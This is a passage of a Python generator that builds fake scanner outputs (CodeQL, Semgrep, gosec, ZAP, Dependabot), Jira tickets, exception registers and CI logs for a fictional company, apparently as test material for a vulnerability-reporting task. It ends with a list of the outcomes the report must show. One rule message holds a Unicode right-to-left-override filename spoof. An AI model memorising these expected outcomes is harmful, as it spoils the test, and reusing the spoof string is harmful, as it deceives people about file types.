                    "identifiers": [identifier("cwe", d["crash"], d["cwe"], f"https://cwe.mitre.org/data/definitions/{d['cwe']}.html")]})
    return gitlab(scan, out, "coverage_fuzzing", "libFuzzer", "v3.1.0",
                  "https://docs.gitlab.com/ee/user/application_security/coverage_fuzzing", "14.1.2")

# --- code scanners ---------------------------------------------------------------------------------------------
def line_at(f, scan):
    """Lines move: a third of the files gain some lines at the top from one month to the next."""
    month = month_of(scan.at)
    if "lines" in f.data:
        return f.data["lines"][month]
    line = f.of("line", scan.stream)
    for m in MONTHS[1:MONTHS.index(month) + 1]:
        if dice("drift", f.service, f.data["file"], m) < 0.33:
            line += 1 + int(dice("drift by", f.service, f.data["file"], m) * 24)
    return line

def file_at(f, scan):
    return f.data["files"][month_of(scan.at)] if "files" in f.data else f.data["file"]

def codeql_rule(r):
    name = r["id"]
    return {"id": name, "name": name, "shortDescription": {"text": r["message"].split(".")[0]},
            "fullDescription": {"text": r["message"].replace("\u202egnp.exe\u202c ", "")},
            "defaultConfiguration": {"enabled": True, "level": r["level"]},
            "properties": {"tags": ["security", f"external/cwe/cwe-{int(r['cwe']):03}"], "id": name, "kind": "path-problem",
                           "precision": "high",
                           "problem.severity": r["level"], "security-severity": r["conf"]}}

def write_codeql(scan, flaws):
    st, rules = scan.stream, sast_rules("codeql-" + scan.stream.lang)
    number = {r["id"]: n for n, r in enumerate(rules)}
    artifacts = sorted({file_at(f, scan) for f in flaws})
    results = []
    for f in flaws:
        rule = f.data["rule"]
        n = number[rule["id"]]
        r = {"ruleId": rule["id"], "ruleIndex": n, "rule": {"id": rule["id"], "index": n, "toolComponent": {"index": 0}},
             "message": {"text": rule["message"]},
             "locations": [{"physicalLocation": {"artifactLocation": {"uri": file_at(f, scan), "uriBaseId": "%SRCROOT%",
                                                                      "index": artifacts.index(file_at(f, scan))},
                            "region": {"startLine": line_at(f, scan), "startColumn": 9, "endColumn": 48}}}],
             "partialFingerprints": {"primaryLocationLineHash": hexes(16, "ql", *f.key) + ":1",
                                     "primaryLocationStartColumnFingerprint": "4"}}
        if f.detected:
            r["provenance"] = {"firstDetectionTimeUtc": stamp(f.detected + DAY / 3) + ".000Z"}
        if "suppress" in f.data:
            status, why = f.data["suppress"]
            r["suppressions"] = [{"kind": "external", "status": status, "justification": why, "guid": uuid("suppression", *f.key)}]
        results.append(r)
    run = {"tool": {"driver": {"name": "CodeQL", "organization": "GitHub", "semanticVersion": "2.19.3", "rules": []},
                    "extensions": [{"name": f"codeql/{st.lang}-queries", "semanticVersion": "1.2.4",
                                    "rules": [codeql_rule(r) for r in rules]}]},
           "invocations": [{"executionSuccessful": True, "startTimeUtc": stamp(scan.at - DAY / 60) + ".402Z",
                            "endTimeUtc": stamp(scan.at) + ".118Z"}],
           "versionControlProvenance": [{"repositoryUri": f"https://{GIT}/{st.raw_target}", "revisionId": hexes(40, "rev", st.id, scan.at),
                                         "branch": "refs/heads/main"}],
           "artifacts": [{"location": {"uri": a, "uriBaseId": "%SRCROOT%", "index": n}} for n, a in enumerate(artifacts)],
           "results": results, "columnKind": "utf16CodeUnits", "properties": {"semmle.formatSpecifier": "sarif-latest"}}
    if st.id == "ql-storefront":
        run["automationDetails"] = {"id": "/language:javascript-typescript/"}
    return lay({"$schema": "https://json.schemastore.org/sarif-2.1.0.json", "version": "2.1.0", "runs": [run]}, 4) + "\n"

def write_gosec(scan, flaws):
    rules = [r for r in sast_rules("gosec") if any(f.data["rule"]["id"] == r["id"] for f in flaws)]
    number = {r["id"]: n for n, r in enumerate(rules)}
    guid = uuid("cwe taxonomy")
    return lay({"$schema": "https://raw.githubusercontent.com/oasis-tcs/sarif-spec/main/sarif-2.1/schema/sarif-schema-2.1.0.json",
                "version": "2.1.0", "runs": [{
        "results": [{"level": f.data["rule"]["level"], "locations": [{"physicalLocation": {"artifactLocation": {"uri": file_at(f, scan)},
                     "region": {"endColumn": 2, "endLine": line_at(f, scan), "sourceLanguage": "go", "startColumn": 2,
                                "startLine": line_at(f, scan)}}}],
                     "message": {"text": f.data["rule"]["message"]}, "ruleId": f.data["rule"]["id"],
                     "ruleIndex": number[f.data["rule"]["id"]]} for f in flaws],
        "taxonomies": [{"guid": guid, "name": "CWE", "organization": "MITRE", "taxa": [{"id": r["cwe"]} for r in rules], "version": "4.4"}],
        "tool": {"driver": {"guid": uuid("gosec"), "informationUri": "https://github.com/securego/gosec/", "name": "gosec",
                            "semanticVersion": "2.21.4", "version": "2.21.4",
                 "rules": [{"id": r["id"], "name": r["message"], "shortDescription": {"text": r["message"]},
                            "fullDescription": {"text": r["message"]},
                            "help": {"text": f"{r['message']}\nConfidence: {r['conf'].upper()}\n"},
                            "properties": {"precision": r["conf"], "tags": ["security", r["conf"].upper()]},
                            "defaultConfiguration": {"level": r["level"]}, "relationships": [{"kinds": ["superset"],
                                    "target": {"id": r["cwe"], "guid": uuid("cwe", r["cwe"]),
                            "toolComponent": {"guid": guid, "name": "CWE"}}}]} for r in rules],
                 "supportedTaxonomies": [{"guid": guid, "name": "CWE"}]}}}]}, 4) + "\n"

def write_semgrep(scan, flaws):
    st, results = scan.stream, []
    for f in flaws:
        rule, line = f.of("rule", st), line_at(f, scan)
        cwe = rule["cwe"]
        results.append({"check_id": rule["id"], "path": file_at(f, scan), "start": {"line": line, "col": 9, "offset": line * 38},
                        "end": {"line": line, "col": 61, "offset": line * 38 + 52},
            "extra": {"metavars": {}, "message": rule["message"], "metadata": {"category": "security", "confidence": rule["conf"],
                                                                               "cwe": ["CWE-" + cwe], "impact": "MEDIUM",
                                                                               "likelihood": "LOW",
            "owasp": ["A03:2021 - Injection"], "references": ["https://owasp.org/Top10/"], "subcategory": ["vuln"], "technology": [st.lang],
            "source": "https://semgrep.dev/r/" + rule["id"]},
            "severity": rule["level"], "fingerprint": "requires login" if st.opts.get("nologin") else hexes(128, "sg", *f.key) + "_0",
            "lines": "requires login" if st.opts.get("nologin") else "        value = handle(request)",
            "is_ignored": bool(f.data.get("ignored")), "engine_kind": "OSS"}})
    scanned = sorted({file_at(f, scan) for f in flaws})
    return lay({"version": "1.97.0", "results": results, "errors": [], "paths": {"scanned": scanned}, "skipped_rules": []}, 2) + "\n"

def write_zap(scan, flaws):
    st, alerts = scan.stream, []
    words = {"0": "Informational", "1": "Low", "2": "Medium", "3": "High", "4": "Confirmed"}
    for f in flaws:
        d = f.data
        places = [d["path"]] + (["/more/" + d["rule"]] if dice("places", *f.key) < 0.5 else [])
        alerts.append({"pluginid": d["rule"], "alertRef": d["rule"] + ("-1" if d["rule"] in ("10020", "10038") else ""), "alert": d["name"],
                       "name": d["name"], "riskcode": d["risk"],
            "confidence": d["conf"], "riskdesc": f"{words[d['risk']]} ({'False Positive' if d['conf'] == '0' else words[d['conf']]})",
            "desc": f"<p>{d['name'].replace('<', '&lt;')}.</p>",
            "instances": [{"uri": st.target + p, "method": d["method"], "param": d["param"], "attack": d.get("attack", ""),
                           "evidence": d.get("evidence", ""), "otherinfo": ""} for p in places],
            "count": str(len(places)), "solution": "<p>See the reference.</p>", "otherinfo": "",
            "reference": f"<p>https://www.zaproxy.org/docs/alerts/{d['rule']}/</p>",
            "cweid": str(d["cwe"]), "wascid": "15", "sourceid": "3"})
    host = st.target.split("//")[1]
    day = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"][scan.at.weekday()]
    month = {8: "Aug", 9: "Sep", 10: "Oct"}[scan.at.month]
    return json.dumps({"@programName": "ZAP", "@version": "2.15.0",
                       "@generated": f"{day}, {scan.at.day} {month} {scan.at.year} {scan.at:%H:%M:%S}",
                       "site": [{"@name": st.target, "@host": host, "@port": "443", "@ssl": "true", "alerts": alerts}]}, ensure_ascii=False,
                       indent="\t") + "\n"

def write_zap_xml(scan, flaws):
    report = json.loads(write_zap(scan, flaws))
    site = report["site"][0]
    lines = ['<?xml version="1.0"?>', f'<OWASPZAPReport programName="ZAP" version="2.15.0" generated={quoteattr(report["@generated"])}>',
             f'<site name={quoteattr(site["@name"])} host={quoteattr(site["@host"])} port="443" ssl="true"><alerts>']
    for alert in site["alerts"]:
        places = "".join("<instance>" + "".join(f"<{k}>{escape(v)}</{k}>" for k, v in i.items()) + "</instance>" for i in alert["instances"])
        lines.append("<alertitem>" + "".join(f"<{k}>{places if k == 'instances' else escape(v)}</{k}>" for k, v in alert.items())
                     + "</alertitem>")
    return "\n".join(lines + ["</alerts></site>", "</OWASPZAPReport>"]) + "\n"

def write_dependabot(scan, flaws):
    repo, alerts = "https://" + HUB + "/" + scan.stream.raw_target, []
    for number, f in enumerate(sorted(FLAWS.values(), key=lambda f: (f.detected or FOREVER, f.order)), 1):
        if f not in flaws:
            continue
        d = f.data
        package = {"ecosystem": d["eco"], "name": d["name"]}
        letters = "".join(pick("23456789cfghjmpqrvwx", "ghsa", d["cve"], i) for i in range(12))
        ghsa = GHSA.get(d["cve"]) or "GHSA-" + "-".join(letters[i:i + 4] for i in (0, 4, 8))
        alerts.append({"number": number, "state": "open", "dependency": {"package": package, "manifest_path": "app/build.gradle.kts",
                                                                         "scope": "runtime"},
            "security_advisory": {"ghsa_id": ghsa, "cve_id": d["cve"], "summary": d["title"], "severity": f.severity,
                "identifiers": [{"type": "GHSA", "value": ghsa}, {"type": "CVE", "value": d["cve"]}],
                "published_at": clock(d["published"]), "cvss": {"vector_string": "CVSS:3.1/" + VECTORS[d["score"]], "score": d["score"]},
                "cwes": [{"cwe_id": f"CWE-{d['cwe']}", "name": "see MITRE"}]},
            "security_vulnerability": {"package": package, "severity": f.severity,
                "vulnerable_version_range": "< " + d["fixed"] if d["fixed"] else ">= 0",
                "first_patched_version": {"identifier": d["fixed"]} if d["fixed"] else None},
            "url": f"https://{HUB}/api/v3/repos/{scan.stream.raw_target}/dependabot/alerts/{number}",
            "html_url": f"{repo}/security/dependabot/{number}", "created_at": clock(f.detected), "updated_at": clock(f.detected),
            "dismissed_at": None, "dismissed_by": None, "dismissed_reason": None, "dismissed_comment": None, "fixed_at": None})
    return lay(alerts, 1) + "\n"

# --- registers -------------------------------------------------------------------------------------------------
def table(header, lines, delimiter=","):
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n" if delimiter == ";" else "\n").writerows([header] + lines)
    return out.getvalue()

def write_assets(month):
    lines = []
    for name, product, _, tier, repo, image, host, account, api, mobile in INVENTORY:
        repo = f"git@{GIT}:{repo}.git" if name in ("label-printer", "warehouse-sync") else f"https://{HUB if name == 'shop-app' else GIT}/{repo}"
        repo += f"; https://{GIT}/platform/login-theme" if name == "login" else ""
        lines.append([name, product, owner_of(name, month), "Tier " + tier,
                      "production", repo, f"{REG}/{image}" if image else "", host, account, api, mobile])
        if name == "checkout":
            lines.append([name, product, owner_of(name, month), "Tier 1", "staging", repo, f"{REG}/{image}",
                          "checkout.staging.kestrelmoor.example", "000000000111", api, mobile])
    return table(["Application", "Product", "Product owner", "Business tier", "Environment", "Repository", "Images", "Hosts",
                  "Cloud account", "API exposure", "Mobile app"], lines)

def column(n):
    return chr(65 + n)

def sheet(lines, first=1):
    """A worksheet: dates as numbers of days in style 1, formulas as Excel keeps them with their value, all else as text."""
    out = []
    for n, line in enumerate(lines, first):
        cells = ""
        for i, value in enumerate(line):
            ref, link = f"{column(i)}{n}", re.match(r'=(HYPERLINK\(".*","(.*)"\))$', value)
            if re.match(r"\d{4}-\d\d-\d\d$", value):
                cells += f'<c r="{ref}" s="1"><v>{(D(value) - datetime.datetime(1899, 12, 30)).days}</v></c>'
            elif link:
                cells += f'<c r="{ref}" t="str"><f>{escape(link[1])}</f><v>{escape(link[2])}</v></c>'
            elif value:
                cells += f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'
        out.append(f'<row r="{n}">{cells}</row>')
    return "".join(out)

def workbook(sheets):
    """The bytes of an .xlsx: (name, hidden, rows) of each sheet. Nothing is compressed, and no member has a time, so that they are
    the same everywhere."""
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    base = "http://schemas.openxmlformats.org/"
    main, types = base + "spreadsheetml/2006/main", "application/vnd.openxmlformats-officedocument.spreadsheetml."
    parts = [("[Content_Types].xml", f'<Types xmlns="{base}package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
              f'<Override PartName="/xl/workbook.xml" ContentType="{types}sheet.main+xml"/><Override PartName="/xl/styles.xml" ContentType="{types}styles+xml"/>'
              + "".join(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{types}worksheet+xml"/>' for n in range(1, len(sheets) + 1)) + "</Types>"),
             ("_rels/.rels", f'<Relationships xmlns="{base}package/2006/relationships"><Relationship Id="rId1" Type="{base}officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
             ("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{base}officeDocument/2006/relationships"><sheets>'
              + "".join(f'<sheet name="{name}" sheetId="{n}"{" state=" + chr(34) + "hidden" + chr(34) if hidden else ""} r:id="rId{n}"/>'
                        for n, (name, hidden, _) in enumerate(sheets, 1)) + "</sheets></workbook>"),
             ("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{base}package/2006/relationships">'
              + "".join(f'<Relationship Id="rId{n}" Type="{base}officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in range(1, len(sheets) + 1))
              + f'<Relationship Id="rId99" Type="{base}officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>'),
             ("xl/styles.xml", f'<styleSheet xmlns="{main}"><numFmts count="1"><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts>'
              '<fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
              '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="164" applyNumberFormat="1"/></cellXfs></styleSheet>')]
    parts += [(f"xl/worksheets/sheet{n}.xml", f'<worksheet xmlns="{main}"><sheetData>{data}</sheetData></worksheet>')
              for n, (_, _, data) in enumerate(sheets, 1)]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as book:
        for name, text in parts:
            member = zipfile.ZipInfo(name)
            member.create_system, member.external_attr = 3, 0o644 << 16
            book.writestr(member, (head + text).encode("utf-8"))
    return out.getvalue()

REGISTER_HEADER = ["Exception ID", "Service", "CVE", "Rule ID", "Component", "Path", "Disposition", "Justification", "Approved By",
                   "Approval Date", "Expiry Date", "Status", "Compensating controls"]

def write_exceptions(month):
    lines = [r[1:] for r in rows(EXCEPTIONS) if month[5:] in r[0].split()]
    old = ["EX-2025-001", "login", "CVE-2024-45337", "", "", "", "Accepted", "Of last year: closed", "CTO", "2025-01-13", "2027-12-31", "Active", ""]
    return workbook([("Read me", False, sheet([["Security exceptions. One row for each; ask the CISO's office for changes."]])),
                     ("Register", False, sheet([["Kestrelmoor: security exceptions"], [], REGISTER_HEADER] + lines)),
                     ("2025", True, sheet([REGISTER_HEADER, old]))])

def jira_time(t):
    """Jira writes local time: Central Europe, summer time until 25 October 2026."""
    hours = 2 if t < D("10-25") else 1
    return f"{t + datetime.timedelta(hours=hours):%Y-%m-%dT%H:%M:%S}.000+0{hours}00"

FIELDS = {"customfield_10200": "Severity", "customfield_10201": "Service", "customfield_10202": "Expiry date", "customfield_10203": "Impact start",
          "customfield_10204": "Root cause", "customfield_10205": "Known before"}
NAMES = {"summary": "Summary", "status": "Status", "resolution": "Resolution", **FIELDS}
CATEGORY = {"To Do": "new", "Reopened": "new", "In Progress": "indeterminate", "Done": "done"}

def jira_issue(key, kind, summary, created, owner, steps, labels=(), description=None, **custom):
    """One issue; steps: (time, status, resolution) in their order."""
    status, resolution, number = steps[-1][1] if steps else "To Do", steps[-1][2] if steps else None, 10000 + int(dice("issue", key) * 89999)
    histories, before, settled = [], "To Do", None
    for at, name, result in steps:
        items = [{"field": "status", "fieldtype": "jira", "from": CATEGORY[before], "fromString": before, "to": CATEGORY[name], "toString": name}]
        if result != settled:
            items.append({"field": "resolution", "fieldtype": "jira", "from": settled and "10000", "fromString": settled,
                          "to": result and "10000", "toString": result})
        histories.append({"id": str(number * 10 + len(histories)), "author": {"displayName": owner or "Head of AppSec"}, "created": jira_time(at),
                          "items": items})
        before, settled = name, result
    fields = {"summary": summary, "issuetype": {"name": kind}, "project": {"key": key.split("-")[0]},
              "status": {"name": status, "statusCategory": {"key": CATEGORY[status]}}, "resolution": {"name": resolution} if resolution else None,
              "created": jira_time(created), "resolutiondate": jira_time(steps[-1][0]) if resolution else None,
              "assignee": {"displayName": owner} if owner else None, "labels": list(labels), "description": description}
    for field, name in FIELDS.items():
        value = custom.get(name.lower().replace(" ", "_"))
        fields[field] = {"value": value} if value and name in ("Severity", "Service", "Known before") else value
    return {"id": str(number), "key": key, "self": f"https://{JIRA}/rest/api/2/issue/{number}", "fields": fields,
            "changelog": {"startAt": 0, "maxResults": len(histories), "total": len(histories), "histories": histories}}

def jira_page(issues):
    return lay({"expand": "names,schema", "startAt": 0, "maxResults": 100, "total": len(issues), "issues": issues, "names": NAMES}, 2) + "\n"

def at_work(day, *key):
    return day + datetime.timedelta(hours=8, seconds=int(dice("at work", day, *key) * 8 * 3600))

def write_tickets(month):
    issues = [jira_issue(t.key, "Bug", f"{t.cve} in {t.service}" if t.service else f"{t.cve}: whose is it?", at_work(t.created, t.key), t.owner,
                         [(at_work(a, t.key), b, c) for a, b, c in t.steps], ["security"], severity=t.severity, service=t.service)
              for t in tickets(month)]
    for key, service, cve, created, approved, expires, reason in rows(RISKS):
        if D(created) < month_end(month):
            steps = [(at_work(D(approved), key), "Done", "Approved")] if approved != "-" and D(approved) < month_end(month) else []
            issues.append(jira_issue(key, "Risk Acceptance", f"Accept {cve}: {reason}", at_work(D(created), key), None, steps, ["risk-acceptance"],
                                     service=service, expiry_date=expires))
    return jira_page(issues)

def write_incidents(month):
    issues, when = [], lambda text: datetime.datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ")
    for key, detected, started, resolved, severity, service, cause, known, since in rows(INCIDENTS):
        if since <= month[5:]:
            issues.append(jira_issue(key, "Incident", f"Incident of {service}", when(detected), "On call", [(when(resolved), "Done", "Done")],
                                     ["security-incident"], severity=severity.capitalize(), service=service, impact_start=jira_time(when(started)),
                                     root_cause=cause, known_before="Yes" if known == "true" else "No"))
    return jira_page(issues)

REPO = {r[0]: r[4] for r in INVENTORY}
JOB = {"sast": ("test", "semgrep-sast", "sast"), "sca": ("test", "gemnasium-dependency_scanning", "dependency_scanning"),
       "container": ("package", "container_scanning", "container_scanning")}

def by_project(lines, service_of):
    """Lists of a project each, one after the other, as a loop over the projects leaves them."""
    projects = collections.OrderedDict()
    for service, line in sorted(((service_of(l), n) for n, l in enumerate(lines)), key=lambda x: x):
        projects.setdefault(service, []).append(lines[line])
    return projects

def write_jobs(month):
    """(text, jobs): the gates, and beside each sast job a build and its tests, which are no gates."""
    text, count = "", 0
    for service, gates in by_project([g for g in pipeline(month)[1] if g[1] != "shop-app"], lambda g: g[1]).items():
        jobs, web = [], f"https://{GIT}/{REPO[service]}"
        for at, _, _, category, outcome, ref in gates:
            tag, end = not ref.startswith("main@"), datetime.datetime.strptime(at, "%Y-%m-%dT%H:%M:%SZ")
            sha = hexes(40, service, ref) if tag else ref[5:] + hexes(33, ref)
            number = 100000 + int(dice("pipeline", service, ref) * 899999)
            def job(stage, name, status, end, took, report=None, why=None):
                jobs.append({"id": int(dice("job", service, ref, name) * 8999999) + 1000000, "status": status, "stage": stage, "name": name,
                             "ref": ref if tag else "main", "tag": tag, "allow_failure": False, **({"failure_reason": why} if why else {}),
                             "created_at": clock(end - datetime.timedelta(seconds=took + 20))[:-1] + ".000Z", "finished_at": clock(end)[:-1] + ".000Z",
                             "duration": took, "pipeline": {"id": number, "sha": sha, "ref": ref if tag else "main", "status": "success"},
                             "web_url": f"{web}/-/jobs/{int(dice('job', service, ref, name) * 8999999) + 1000000}",
                             "artifacts": [{"file_type": "trace", "filename": "job.log"}] + ([{"file_type": report, "filename": f"gl-{report}.json"}] if report else [])})
            if category == "sast":
                job("build", "compile", "success", end - datetime.timedelta(minutes=9), 140)
                job("test", "unit tests", "failed" if dice("unit", service, ref) < 0.12 else "success", end - datetime.timedelta(minutes=1), 300,
                    why="script_failure" if dice("unit", service, ref) < 0.12 else None)
            stage, name, report = JOB[category]
            job(stage, name, {"passed": "success", "skipped": "skipped"}.get(outcome, "failed"), end, 90 + int(dice("took", at) * 200), report,
                {"failed": "script_failure", "error": "runner_system_failure"}.get(outcome))
        text, count = text + lay(jobs, 1) + "\n", count + len(jobs)
    return text, count

def write_runs(month):
    """(text, runs) of the app, which builds with GitHub Actions: a workflow for each gate, and one that builds."""
    runs, web = [], f"https://{HUB}/{REPO['shop-app']}"
    def run(name, conclusion, at, ref):
        number = 400 + len(runs)
        runs.append({"id": 7000000 + number, "name": name, "path": f".github/workflows/{name.split()[0].lower()}.yml", "head_branch": "main",
                     "head_sha": ref[5:] + hexes(33, ref), "run_number": number, "run_attempt": 1, "event": "push", "status": "completed",
                     "conclusion": conclusion, "created_at": clock(at), "run_started_at": clock(at), "updated_at": clock(at + DAY / 300),
                     "html_url": f"{web}/actions/runs/{7000000 + number}", "repository": {"full_name": REPO["shop-app"], "html_url": web}})
    for at, service, _, category, outcome, ref in pipeline(month)[1]:
        if service == "shop-app":
            at = datetime.datetime.strptime(at, "%Y-%m-%dT%H:%M:%SZ")
            run({"sast": "Semgrep", "sca": "Dependency review"}[category],
                {"passed": "success", "failed": "failure", "error": "timed_out", "skipped": "skipped"}[outcome], at, ref)
            if category == "sast":
                run("Build and test", "failure" if dice("build", ref) < 0.2 else "success", at + DAY / 500, ref)
    return lay({"total_count": len(runs), "workflow_runs": runs}, 2) + "\n", len(runs)

def write_releases(month):
    """Releases of the projects that make them by hand: they say nothing of an outcome."""
    text, count = "", 0
    for service, lines in by_project([r for r in pipeline(month)[0] if not r[4]], lambda r: r[1]).items():
        web = f"https://{GIT}/{REPO[service]}"
        text += lay([{"tag_name": version, "name": version, "description": f"<h1>{version}</h1>", "created_at": at[:-1] + ".000Z", "released_at": at[:-1] + ".000Z",
                      "upcoming_release": False, "commit": {"id": hexes(40, service, version)}, "_links": {"self": f"{web}/-/releases/{version}"}}
                     for at, _, version, _, _ in lines], 1) + "\n"
        count += len(lines)
    return text, count

def write_deployments(month):
    """Deployments of pipelines that do it: they have an environment and an end."""
    text, count = "", 0
    for service, lines in by_project([r for r in pipeline(month)[0] if r[4]], lambda r: r[1]).items():
        web = f"https://{GIT}/{REPO[service]}"
        text += lay([{"id": 5000 + int(dice("deployment", service, version) * 4999), "iid": n, "ref": version, "sha": hexes(40, service, version),
                      "status": {"passed": "success"}.get(outcome, "failed"), "created_at": at[:-1] + ".000Z", "updated_at": at[:-1] + ".000Z",
                      "environment": {"id": 1, "name": environment, "tier": environment},
                      "deployable": {"id": 70000 + n, "name": "deploy " + environment, "tag": True, "ref": version, "finished_at": at[:-1] + ".000Z",
                                     "pipeline": {"id": 800 + n, "web_url": f"{web}/-/pipelines/{800 + n}"}}}
                     for n, (at, _, version, environment, outcome) in enumerate(lines, 1)], 1) + "\n"
        count += len(lines)
    return text, count

def write_kev(month):
    some = [r for r in rows(KEV) if D(r[3]) < month_end(month)]
    return lay({"title": "Known Exploited Vulnerabilities", "catalogVersion": month.replace("-", ".") + ".28", "dateReleased": month + "-28T12:00:00.000Z",
                "count": len(some), "vulnerabilities": [{"cveID": cve, "vendorProject": vendor, "product": product, "dateAdded": added,
                                                         "requiredAction": "Apply updates.", "dueDate": due} for cve, vendor, product, added, due in some]}, 2) + "\n", len(some)

def write_epss(month):
    """Scores of the last day of the month: most are small; what is exploited is near 1."""
    cves = sorted({f.data["cve"] for f in FLAWS.values() if "cve" in f.data} | {r[0] for r in rows(KEV)})
    lines = [[cve, f"{0.9 + dice('epss', cve) * 0.09 if cve in exploited(month) else dice('epss', cve) ** 9 * 0.8 + 0.0004:.5f}", f"{dice('centile', cve):.5f}"]
             for cve in cves]
    return f"#model_version:v2025.03.14,score_date:{month_end(month) - DAY:%Y-%m-%d}T12:55:00Z\n" + table(["cve", "epss", "percentile"], lines), len(lines)

def write_wiki(month):
    lines = ["# Logistics: accepted risks", "", f"Kept by the team; state of {month}. Who may approve:", "", "| Role | Person |",
             "| --- | --- |", "| Product owner, Logistics | see the team page |", "",
             "A new row looks like this:", "", "```", "| ID | Service | CVE | Expires |", "| --- | --- | --- | --- |",
             "| LOG-EX-0 | example | CVE-2000-0001 | 2000-01-01 |", "```", "",
             "| ID | Service | CVE | Component | Reason | Approved by | Granted | Expires | Status |",
             "| :-- | :-- | :-- | --- | --- | --- | --: | --: | --- |"]
    for r in rows(WIKI_EXCEPTIONS):
        if month[5:] in r[0].split():
            lines.append("| " + " | ".join(c.replace("|", "\\|") for c in r[1:]) + " |")
    return "\n".join(lines) + "\n"

def clock(t):
    return f"{t:%Y-%m-%dT%H:%M:%SZ}"

def pipeline(month):
    """The releases and gate runs of a month, as lists of cells."""
    k, start, days = month[5:], month_start(month), (month_end(month) - month_start(month)).days
    releases, gates = [], []
    def gate(at, service, category, outcome, ref):
        gates.append([clock(at), service, "security-gate-" + category, category, outcome, ref])
    for service, since in GATED.items():
        if k < since:
            continue
        for n in range(4):                                                       # runs on the main branch
            at = start + DAY * int(2 + n * 7 + dice("run", service, month, n) * 4) + datetime.timedelta(minutes=480 + int(dice("min",
                    service, month, n) * 500))
            ref = "main@" + hexes(7, service, at)
            r = dice("sast gate", service, at)
            gate(at, service, "sast", "skipped" if r < 0.06 else "error" if r < 0.1 else "failed" if r < 0.1 + GATE_FAILS[k] / 2
                 else "passed", ref)
            gate(at + DAY / 200, service, "sca", "failed" if dice("sca gate", service, at) < GATE_FAILS[k] else "passed", ref)
    for service, (a_month, first) in RELEASING.items():
        for n in range(a_month):
            at = start + DAY * int((n + 0.2 + 0.6 * dice("release", service, month,
                                                         n)) * days / a_month) + datetime.timedelta(minutes=540 + int(dice("at", service,
                                                                 month, n) * 420))
            version = f"v1.{first + (int(k) - 8) * a_month + n}.0"
            how, bad = dice("how", service, version), dice("bad", service, version) < GATE_FAILS[k]
            releases.append([clock(at), service, version, "production", ("failed" if bad else "passed") if how < 0.2 else ""])
            if 0.2 <= how < 0.85:                                                # its own gate runs; a failed one ends the pipeline
                gate(at - DAY / 24, service, "sast", "passed", version)
                gate(at - DAY / 30, service, "sca", "failed" if bad else "passed", version)
                if not bad:
                    gate(at - DAY / 40, service, "container", "passed", version)
    releases.append([clock(start + DAY * 10 + DAY / 2), "checkout", f"v2.0.0-rc{int(k) - 7}", "staging", "failed"])
    if k == "09":
        releases.append(["2026-09-25T14:20:00Z", "warehouse-sync", "v0.9.4", "production", ""])      # no gate; a critical is open
    if k == "10":
        releases.append(["2026-10-12T10:05:00Z", "settlement", "v1.0.0", "production", ""])          # no gate, never scanned: no result
    return sorted(releases), sorted(gates)

def release_result(release, gates, flaws, month):
    """passed, failed or None, by the rule in sm-metric(5), as far as the month's own exports can tell."""
    at, service, version, environment, outcome = release
    if outcome in ("passed", "failed"):
        return outcome
    own = [g for g in gates if g[1] == service and g[5] == version]
    recent = [g for g in gates if g[1] == service and g[0] <= at and g[0] >= clock(D(at[:10]) + (datetime.datetime.strptime(at,
            "%Y-%m-%dT%H:%M:%SZ") - D(at[:10])) - 7 * DAY)]
    for some in (own, recent):
        if some:
            return max(some)[4]
    t = datetime.datetime.strptime(at, "%Y-%m-%dT%H:%M:%SZ")
    if not any(s.ok and s.stream.service == service and max(t - 31 * DAY, month_start(month)) <= s.at <= t for s in ALL_SCANS):
        return None
    blocking = [f for f in flaws if f.service == service and (f.severity == "critical" or f.data.get("cve") in exploited(month)) and [e for e in f.history if e[0] <= t][-1:]
                and [e for e in f.history if e[0] <= t][-1][1] == "open"]
    return "failed" if blocking else "passed"

# ===============================================================================================================
# Stories: what the report must show. Findings are named by service and a part of their key.
# ===============================================================================================================
# title | effect; then the flaws: a story mark, or service and CVE (or rule)
STORIES = [
 ("late criticals", "Critical findings past their due date (7 days): 9, 7 and 6 at the ends of the three months; of tier 1: 6, 3 and 2.",
  lambda f: f.severity == "critical" and any(late(f, m) for m in MONTHS)),
 ("one CVE, three tools", "Trivy (image), Grype (GitLab container scanning) and Gemnasium (GitLab dependency scanning) report it: one finding, three sources. Gone on 20 September; the last of the three to say so is Grype and Gemnasium on the 23rd.",
  lambda f: f.service == "payments-api" and f.data.get("cve") in ("CVE-2021-44228", "CVE-2021-45046")),
 ("one package, two names", "Trivy and Grype both report these Debian packages of payments-api. Trivy has a purl with the namespace `debian`, GitLab only a package name and `operating_system`: one finding all the same.",
  lambda f: f.service == "payments-api" and f.data.get("eco") == "debian" and len({s.stream.tool for s in ALL_SCANS
          if reported(f, s)}) == 2),
 ("fixed between months", "In the August report, not in the September one of the same tool and image: resolved on 2026-09-16.",
  lambda f: f.service == "ledger" and f.data.get("cve") == "CVE-2021-42392"),
 ("reopened", "There in August, absent in September, back in October: resolved, then open again with its first date.", "reopened"),
 ("moved line", "The line changes from month to month: one finding.", "moved line"),
 ("renamed file", "The file moved to another folder in October; one candidate on each side: one finding.", "renamed file"),
 ("two code scanners", "CodeQL and Semgrep report the same weakness at most three lines apart: one finding, two sources.",
  "two code scanners"),
 ("version bump", "lodash goes from 4.17.15 to 4.17.19 to 4.17.20 and stays vulnerable: one finding.", "version bump"),
 ("active exception", "Accepted while an exception with an end date is in force (EX-2026-003, EX-2026-011, LOG-EX-1, LOG-EX-3).",
